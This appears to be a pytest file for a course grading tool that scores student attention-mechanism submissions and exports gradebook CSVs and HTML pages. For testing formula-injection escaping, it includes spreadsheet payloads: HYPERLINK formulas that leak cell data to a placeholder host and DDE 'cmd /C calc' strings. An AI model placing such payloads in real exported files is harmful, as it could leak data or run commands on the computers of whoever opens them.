"""A graded class: points from the rubric, the gradebook and the LMS's CSV (formula-safe), the overview, the pages."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sdpa_lab.grading import classroom, sandbox
from sdpa_lab.grading.gradebook import (
    COLUMNS,
    LMS_ID_COLUMNS,
    LMS_TOTAL,
    check_name,
    gradebook_job,
    gradebook_rows,
    lms_column,
    overview,
)
from sdpa_lab.grading.points import RUBRIC, RubricError, part_points, rubric, score, statements
from sdpa_lab.grading.spreadsheet import FORMULA_START, safe_cell, spreadsheet_csv

needs_sandbox = pytest.mark.skipif(sandbox.unavailable() is not None, reason=f"no sandbox: {sandbox.unavailable()}")


def _record(learner, parts, exit_status=1, unusable=""):
    return {"learner": learner, "file": f"{learner}.py", "seed": 5, "n_samples": 2000, "exit_status": exit_status,
            "usable": exit_status != 2 or bool(parts), "unusable": unusable, "passed": sum(p["passed"] for p in parts),
            "parts": parts, "isolation": "bubblewrap sandbox", "time_limit": 20, "memory_mib": 1024,
            "load_message": unusable}


def _check(claim, what, passed, detail="measured"):
    return {"claim": claim, "what": what, "passed": passed, "detail": detail}


def _part(name, passed, mistakes=(), checks=None, lost=""):
    checks = checks if checks is not None else [_check("B9", "a check", passed)]
    return {"name": name, "signature": f"{name}(...)", "verdict": "pass" if passed else "FAIL (1 of 1 checks)",
            "passed": passed, "lost": lost, "lost_status": "timeout" if lost else "", "checks": checks,
            "notes": [], "error": "", "diagnosis": [], "mistakes": list(mistakes), "reread": []}


RECORDS = [
    _record("ann", [_part(n, True) for n in classroom.PARTS], exit_status=0),
    _record("ben", [_part(n, n != "scaled_dot_product_attention", ["no_scale"] if n.startswith("scaled") else [])
                    for n in classroom.PARTS]),
    _record("cat", [_part(n, n == "softmax", ["no_scale"] if n.startswith("scaled") else [])
                    for n in classroom.PARTS]),
    _record("dan", [], exit_status=2, unusable="dan.py, line 1: SyntaxError: '(' was never closed"),
]


def _write(records, folder: Path) -> list[str]:
    folder.mkdir(exist_ok=True)
    paths = []
    for r in records:
        paths.append(str(folder / f"{r['learner']}.json"))
        Path(paths[-1]).write_text(json.dumps(r))
    return paths


def _job(records, tmp_path, points=None) -> dict[str, Path]:
    out = {"csv": tmp_path / "results" / "gradebook.csv", "scores": tmp_path / "results" / "scores.csv",
           "overview": tmp_path / "reports" / "class.html", "pages": tmp_path / "reports" / "class"}
    gradebook_job(_write(records, tmp_path / "grades"), str(out["csv"]), str(out["pages"]), lms_out=str(out["scores"]),
                  overview_out=str(out["overview"]), points=points)
    return out


# -- points ---------------------------------------------------------------------------

def test_a_parts_points_split_evenly_over_the_statements_its_checks_decide():
    checks = [_check("B9", "shape", True), _check("B9", "rows sum to 1", False), _check("", "agrees", True),
              _check("", "no overflow", True)]
    part = _part("softmax", False, checks=checks)
    assert [s["label"] for s in statements(part)] == ["B9", "agrees", "no overflow"]
    assert part_points(part, 3.0) == 2.0  # B9 fails as a whole (one of its checks fails): 2 of 3 statements
    checks[1] = _check("B9", "rows sum to 1", True)
    assert part_points(_part("softmax", True, checks=checks), 3.0) == 3.0
    assert part_points(_part("softmax", False, checks=checks[:2], lost="hangs"), 3.0) == 0.0  # stopped: 0
    assert part_points(_part("softmax", False, checks=[]), 3.0) == 0.0


def test_an_unusable_file_scores_0_with_its_reason_and_a_missing_part_0():
    s = score(RECORDS[3], RUBRIC)
    assert s["total"] == 0 and set(s["parts"].values()) == {0.0} and "SyntaxError" in s["unusable"]
    assert s["max"] == sum(RUBRIC.values())
    only_softmax = _record("eve", [_part("softmax", True)])
    assert score(only_softmax, RUBRIC)["parts"] == {**{n: 0.0 for n in RUBRIC}, "softmax": RUBRIC["softmax"]}


@given(st.lists(st.lists(st.booleans(), min_size=1, max_size=6), min_size=5, max_size=5),
       st.lists(st.floats(0, 1000, allow_nan=False), min_size=5, max_size=5))
def test_points_are_bounded_full_only_for_a_pass_and_the_total_is_the_sum_of_the_parts(passes, worths):
    claims = ["B9", "", "A3", "B9", "", "B4"]
    parts = [_part(name, all(ps), checks=[_check(claims[i], f"check {i}", ok) for i, ok in enumerate(ps)])
             for name, ps in zip(RUBRIC, passes, strict=True)]
    table = dict(zip(RUBRIC, worths, strict=True))
    if sum(worths) <= 0:
        with pytest.raises(RubricError):
            rubric(table)
        return
    s = score(_record("x", parts), rubric(table))
    assert s["total"] == round(sum(s["parts"].values()), 2)
    for p, name in zip(parts, RUBRIC, strict=True):
        got, worth = s["parts"][name], table[name]
        assert 0 <= got <= round(worth, 2)
        if p["passed"]:
            assert got == round(worth, 2)
        held, of = s["statements"][name]
        assert got == round(worth * held / of, 2)  # the even split, counted independently
        assert held < of or p["passed"]


def test_the_rubric_is_overridden_part_by_part_and_a_bad_override_is_named():
    assert rubric({"exercise_3": 0, "softmax": 5}) == {**RUBRIC, "exercise_3": 0.0, "softmax": 5.0}
    for bad, words in (({"softmx": 1}, "unknown part 'softmx'"), ({"softmax": -1}, "grading_points.softmax"),
                       ({"softmax": "=1+1"}, "grading_points.softmax"), ({n: 0 for n in RUBRIC}, "worth 0")):
        with pytest.raises(RubricError, match=re.escape(words)):
            rubric(bad)


def test_the_rubric_the_grader_and_the_config_schema_name_the_same_parts(tiny_config):
    from sdpa_lab.config import config_errors, load_schema
    from sdpa_lab.grading.grade import GRADERS

    assert list(RUBRIC) == [name for name, _ in GRADERS]
    assert list(load_schema()["properties"]["grading_points"]["properties"]) == list(RUBRIC)
    assert config_errors({**tiny_config, "grading_points": {"softmax": 3, "exercise_3": 0.5}}) == []
    for value in ({"softmax": -1}, {"softmax": 1001}, {"softmax": "3"}, {"softmax": True}, {"other": 1}):
        errors = config_errors({**tiny_config, "grading_points": value})
        assert len(errors) == 1 and "grading_points" in errors[0], (value, errors)


# -- the gradebook and the LMS's CSV ----------------------------------------------------

def test_the_gradebook_has_a_row_per_learner_and_check_and_one_with_the_totals():
    rows = gradebook_rows(RECORDS)
    assert all(tuple(r) == COLUMNS for r in rows)
    totals = {r["learner"]: r for r in rows if r["part"] == "total"}
    assert {k: v["verdict"] for k, v in totals.items()} == {"ann": "5 of 5 pass", "ben": "4 of 5 pass",
                                                          "cat": "1 of 5 pass", "dan": "unusable"}
    assert {k: v["points"] for k, v in totals.items()} == {"ann": 10.0, "ben": 8.0, "cat": 2.0, "dan": 0.0}
    assert {v["max_points"] for v in totals.values()} == {10.0} and totals["ann"]["passed"] == 1
    assert all(r["seed"] == 5 for r in rows)  # each row carries the seed that reproduces it
    assert "SyntaxError" in totals["dan"]["detail"]
    assert len([r for r in rows if r["learner"] == "ben" and r["item"] == "a check"]) == 5


def test_the_csvs_open_in_pandas_with_numbers_as_numbers_and_one_row_per_learner_in_the_lms_csv(tmp_path):
    out = _job(RECORDS, tmp_path, points={"softmax": 4})
    book = pd.read_csv(out["csv"])
    assert list(book.columns) == list(COLUMNS)
    for column in ("seed", "passed", "points", "max_points"):
        assert pd.api.types.is_numeric_dtype(book[column]), column
    verdicts = book[book["item"] == "verdict"]
    assert verdicts.groupby("learner")["points"].sum().to_dict() == {"ann": 12.0, "ben": 10.0, "cat": 4.0}
    totals = book[book["part"] == "total"].set_index("learner")
    assert totals["points"].to_dict() == {"ann": 12.0, "ben": 10.0, "cat": 4.0, "dan": 0.0}

    scores = pd.read_csv(out["scores"])
    assert list(scores.columns[:5]) == list(LMS_ID_COLUMNS) and scores.columns[5] == LMS_TOTAL
    assert len(scores) == 4 and scores["SIS Login ID"].tolist() == ["ann", "ben", "cat", "dan"]
    parts = [lms_column(p) for p in RUBRIC]
    assert all(pd.api.types.is_numeric_dtype(scores[c]) for c in (LMS_TOTAL, *parts))
    assert (scores[parts].sum(axis=1) == scores[LMS_TOTAL]).all()
    assert scores.set_index("Student")[LMS_TOTAL].to_dict() == {"ann": 12.0, "ben": 10.0, "cat": 4.0, "dan": 0.0}


FORMULAS = ['=HYPERLINK("http://x?leak="&A1, "click")', '+HYPERLINK("http://x?leak="&A1)', "-2+3+cmd|' /C calc'!A0",
            '@SUM(1+1)*cmd|" /C calc"!A0', '\t=HYPERLINK("http://x")', '\r=HYPERLINK("http://x")']


def _assert_no_formula(frame: pd.DataFrame, numeric: tuple[str, ...]):
    for column in frame.columns:
        if column in numeric:
            assert pd.api.types.is_numeric_dtype(frame[column]), column
            continue
        for cell in frame[column].dropna().astype(str):
            assert not cell.startswith(FORMULA_START), (column, cell)


def test_no_cell_of_either_csv_starts_a_formula_and_the_text_is_kept_behind_a_quote(tmp_path):
    records = []
    for i, formula in enumerate(FORMULAS):
        part = _part("softmax", False, checks=[_check("B9", formula, False, detail=formula)], lost=formula)
        records.append(_record(f"l{i}", [part], exit_status=2, unusable=formula))
    records.append(_record("neg", [_part("softmax", False, checks=[_check("", "x", False, detail="-3.5 SE")])]))
    out = _job(records, tmp_path)
    book = pd.read_csv(out["csv"], keep_default_na=False, na_values=[""])
    _assert_no_formula(book, ("seed", "passed", "points", "max_points"))
    details = book[book["part"] == "total"].set_index("learner")["detail"]
    assert [details[f"l{i}"] for i in range(len(FORMULAS))] == ["'" + f for f in FORMULAS]  # quoted, not lost
    assert book[book["learner"] == "neg"]["detail"].tolist()[1] == "'-3.5 SE"
    scores = pd.read_csv(out["scores"])
    _assert_no_formula(scores, (LMS_TOTAL, *(lms_column(p) for p in RUBRIC), "ID", "SIS User ID", "Section"))
    raw = out["csv"].read_text()
    assert '"\'=HYPERLINK(""http://x?leak=""&A1, ""click"")"' in raw  # quoted, its double quotes doubled


def test_safe_cell_keeps_numbers_and_quotes_text_that_starts_a_formula():
    assert [safe_cell(v) for v in (-1.5, 3, True, None, "-1.5", "ok", "=1")] == [-1.5, 3, 1, "", "'-1.5", "ok", "'=1"]
    assert spreadsheet_csv([{"a": -1.0, "b": "=x"}], ["a", "b"]) == '"a","b"\n-1.0,"\'=x"\n'
    with pytest.raises(ValueError, match="row 0"):
        spreadsheet_csv([{"b": 1}], ["a"])


@needs_sandbox
def test_a_learners_load_error_that_is_a_formula_is_escaped_in_the_gradebook(tmp_path):
    path = tmp_path / "mal.py"
    # the error is raised where the file binds a name its softmax needs, so it runs (sdpa_lab.grading.source)
    path.write_text('def _scale():\n'
                    '    raise RuntimeError("oops\\n=HYPERLINK(\\"http://x?leak=\\"&A1, \\"click\\")")\n\n\n'
                    'SCALE = _scale()\n\n\ndef softmax(x, axis=-1):\n    return x * SCALE\n')
    record = classroom.grade_submission(path, "mal", seed=1)
    assert record["exit_status"] == 2 and record["unusable"].startswith("=HYPERLINK")
    out = _job([record], tmp_path)
    book = pd.read_csv(out["csv"], keep_default_na=False, na_values=[""])
    _assert_no_formula(book, ("seed", "passed", "points", "max_points"))
    assert book["detail"].iloc[-1].startswith("'=HYPERLINK") and book["points"].iloc[-1] == 0


# -- the overview and the pages -------------------------------------------------------

def test_the_overview_counts_pass_rates_mistakes_and_unusable_files_and_names_mistakes_in_words():
    o = overview(RECORDS)
    assert o["n"] == 4 and o["all_pass"] == 1 and o["mean"] == 5.0 and o["max"] == 10.0
    rates = {r["part"]: (r["passed"], r["of"]) for r in o["rates"]}
    assert rates["softmax"] == (3, 3) and rates["scaled_dot_product_attention"] == (1, 3)
    assert rates["exercise_1"] == (2, 3)
    assert o["mistakes"][0]["key"] == "no_scale" and o["mistakes"][0]["learners"] == 2
    assert o["mistakes"][0]["title"] == "no scale"
    assert o["unusable"] == [{"learner": "dan", "file": "dan.py", "why": RECORDS[3]["unusable"]}]
    rows = {row["learner"]: row for row in o["learners"]}
    assert rows["ben"]["mistakes"] == ["no scale"] and rows["ben"]["total"] == 8.0
    assert rows["dan"]["status"].startswith("could not be graded") and rows["dan"]["total"] == 0
    exercise = _record("fay", [_part("exercise_2", False, ["scaled_entropies"])])
    assert overview([exercise])["learners"][0]["mistakes"] == ["entropies of a scaled softmax in Exercise 2"]


def test_a_check_at_the_grades_own_seed_is_counted_with_the_same_check_of_other_learners():
    a = check_name("seed 123, d_k = 64, 200, 300, 400, T = 9: returns 4 entropies, one per d_k, each between 0 and "
                   "log 9")
    b = check_name("seed 77, d_k = 8, 16, 32, 50, T = 12: returns 4 entropies, one per d_k, each between 0 and log 12")
    assert a == b == ("at the grade's own seed and sizes: returns 4 entropies, one per d_k, each between 0 and log N")
    lesson = "the lesson's seed 42, d_k = 1024: raw variance near d_k = 1024"
    assert check_name(lesson) == lesson


def test_gradebook_job_writes_the_overview_and_a_self_contained_page_per_learner(tmp_path):
    out = _job(RECORDS, tmp_path)
    pages = {p.stem: p.read_text() for p in out["pages"].glob("*.html")}
    assert set(pages) == {"ann", "ben", "cat", "dan"}
    for page in [*pages.values(), out["overview"].read_text()]:
        assert "<style>" in page and 'src="http' not in page and "<link" not in page  # nothing fetched
    assert "could not be graded" in pages["dan"] and "SyntaxError" in pages["dan"]
    assert "0 of 10</strong>" in pages["dan"]
    assert "4 of 5 pass" in pages["ben"] and "--seed 5 --n-samples 2000" in pages["ben"]
    assert "8 of 10</strong> points" in pages["ben"] and "0 of 2 points" in pages["ben"]
    html = out["overview"].read_text()
    for learner in ("ann", "ben", "cat", "dan"):
        assert f'href="class/{learner}.html"' in html
    assert "no_scale" not in html and "no scale" in html


def test_the_report_links_the_class_overview_from_its_summary_and_holds_no_class_tables(tmp_path):
    from sdpa_lab import claims as C
    from sdpa_lab.report import html as H
    from sdpa_lab.report import provenance as P

    decision = C.Decision((), {})
    prov = P.provenance({"seed": 1}, [], tmp_path)
    without = H.render_report(decision, {}, prov)
    with_class = H.render_report(decision, {}, prov, class_overview=overview(RECORDS))
    assert 'id="class"' not in without and 'id="class"' in with_class
    assert 'href="class.html"' in with_class and "mean score 5 of 10" in with_class
    assert "dan.py" not in with_class  # the overview's tables are on their own page


def test_the_overview_in_a_headless_browser_has_a_row_and_a_working_link_per_learner(tmp_path):
    from tests.report.test_html import chromium, run_chromium

    exe = chromium()
    out = _job(RECORDS, tmp_path)
    proc = run_chromium(exe, tmp_path / "profile", "--virtual-time-budget=5000", "--dump-dom",
                        out["overview"].as_uri())
    dom = proc.stdout
    assert "</html>" in dom, proc.stderr[-2000:]
    table = re.search(r'<table class="checks learners stack">(.*?)</table>', dom, re.S)
    assert table, dom[:2000]
    rows = re.findall(r"<tr class=\"row-\w+\">(.*?)</tr>", table.group(1), re.S)
    links = [re.search(r'<a href="([^"]+)">([^<]+)</a>', row).groups() for row in rows]
    assert [name for _, name in links] == ["dan", "cat", "ben", "ann"]  # who needs help first, lowest score first
    for href, _ in links:
        assert (out["overview"].parent / href).is_file(), href  # each link leads to the learner's page
    shot = tmp_path / "class.png"
    run_chromium(exe, tmp_path / "profile2", f"--screenshot={shot}", "--window-size=390,1200", "--hide-scrollbars",
                 out["overview"].as_uri())
    assert shot.is_file() and shot.stat().st_size > 0


@pytest.mark.skipif(shutil.which("soffice") is None, reason="no LibreOffice (Debian: libreoffice-calc-nogui)")
def test_a_spreadsheet_opens_the_csvs_as_one_row_per_learner_numbers_as_numbers_and_no_formula(tmp_path):
    records = [*RECORDS, _record("mal", [], exit_status=2, unusable=FORMULAS[0])]
    out = _job(records, tmp_path)
    proc = subprocess.run(["soffice", "--headless", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                           "--convert-to", "fods", "--infilter=CSV:44,34,76,1", "--outdir", str(tmp_path / "ods"),
                           str(out["csv"]), str(out["scores"])], capture_output=True, text=True, timeout=300)
    sheets = {p.stem: p.read_text() for p in (tmp_path / "ods").glob("*.fods")}
    assert set(sheets) == {"gradebook", "scores"}, proc.stdout + proc.stderr
    for text in sheets.values():
        assert "table:formula" not in text  # LibreOffice evaluates a cell starting with = unless it is escaped
    rows = re.findall(r"<table:table-row[^>]*>(.*?)</table:table-row>", sheets["scores"], re.S)
    assert len(rows) == 1 + len(records)  # the header and one row per learner
    for row in rows[1:]:
        cells = re.findall(r"<table:table-cell([^>]*)>", row)  # equal neighbours are one cell, repeated
        floats = sum(int((re.findall(r'columns-repeated="(\d+)"', c) or [1])[0]) for c in cells
                     if 'office:value-type="float"' in c)
        assert floats == 1 + len(RUBRIC), cells  # the total and each part: numbers
    assert "&apos;=HYPERLINK" in sheets["gradebook"]  # the text kept, as text
